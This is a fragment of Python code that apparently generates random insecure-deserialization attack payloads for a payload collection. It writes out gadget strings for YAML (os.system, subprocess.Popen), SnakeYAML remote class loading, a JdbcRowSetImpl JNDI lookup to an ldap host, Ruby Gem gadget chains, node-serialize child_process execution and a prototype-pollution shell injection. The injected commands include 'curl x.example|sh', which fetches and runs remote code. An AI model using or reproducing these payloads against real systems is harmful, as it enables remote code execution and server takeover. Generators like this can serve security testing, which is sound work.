            s = rng.choice(['!!python/object/apply:os.system ["{c}"]', '!!python/object/new:subprocess.check_output [["{c}"]]',
                            '!!python/object/apply:subprocess.Popen [["sh", "-c", "{c}"]]', "!!python/name:os.system",
                            '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{h}/"]]]]',
                            "--- !ruby/object:Gem::Installer\ni: x", "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? x\n: y",
                            '!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: "ldap://{h}", autoCommit: true}}',
                            "!ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList"])
            s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example"])).replace("{h}", host).replace("{{", "{").replace("}}", "}")
        elif rng.random() < 0.3:
            s = rng.choice(["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{c}')}()\"}",
                            "_$$ND_FUNC$$_function(){return require('child_process').execSync('{c}')}()",
                            '{"__proto__":{"shell":"/proc/self/exe","argv0":"{c}"}}'])
            s = s.replace("{c}", rng.choice(["id", "whoami", "curl x.example|sh"]))
        else:
            s = _prototype_pollution(rng)
        out.append(Payload("deserialization", s, "gen", f"deser-{fam}", rng.choice(["any", "cookie", "any"])))
    return out
